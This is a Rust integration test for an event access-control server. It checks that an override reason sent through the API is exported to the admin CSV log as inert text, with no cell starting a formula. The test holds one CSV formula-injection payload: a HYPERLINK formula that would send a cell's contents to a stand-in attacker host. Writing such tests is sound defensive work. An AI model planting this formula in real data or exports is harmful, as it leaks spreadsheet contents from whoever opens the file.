//! A formula smuggled into the access log: an override reason sent through the REST API comes
//! out of the CSV export as text a spreadsheet will not run.

use serde_json::json;

use crate::common::fixtures::{approved, checkpoint, ticket};
use crate::common::{Backend, Server};

on_both_backends!(a_formula_in_an_override_reason_is_inert_in_the_csv_export);

const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Open report\")";

async fn a_formula_in_an_override_reason_is_inert_in_the_csv_export(backend: Backend) {
    let s = Server::demo(backend).await;
    let demo = s.demo_json();
    let event = s.event_id();
    let (entry, _) = checkpoint(&demo, "Main gate entry");
    let badge = ticket(&demo, approved)["payload"].as_str().unwrap();
    let integrator = s.as_integrator(&s.demo_api_key());
    let path = format!("/api/v1/events/{event}/checkins");
    let first = json!({"checkpoint_id": entry, "payload": badge});
    integrator.post_json(&path, &first).await.expect(200);
    // Admitted again despite anti-passback: the reason is recorded.
    let overridden = json!({"checkpoint_id": entry, "payload": badge, "override_reason": FORMULA});
    let answer = integrator
        .post_json(&path, &overridden)
        .await
        .expect(200)
        .json();
    assert_eq!(answer["verdict"], "MANUAL_OVERRIDE", "{answer}");

    let session = s.admin_session().await;
    let export = s
        .as_admin(&session)
        .get(&format!("/admin/v1/events/{event}/access-logs.csv"))
        .await
        .expect(200);
    let mut reader = csv::Reader::from_reader(export.body.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let column = headers.iter().position(|h| h == "override_reason").unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let reasons: Vec<&str> = rows
        .iter()
        .map(|r| &r[column])
        .filter(|c| !c.is_empty())
        .collect();
    assert_eq!(
        reasons,
        [format!("'{FORMULA}")],
        "the formula is text: {}",
        export.body
    );
    for cell in rows.iter().flat_map(|r| r.iter()) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "no cell starts a formula: {cell:?}"
        );
    }
}
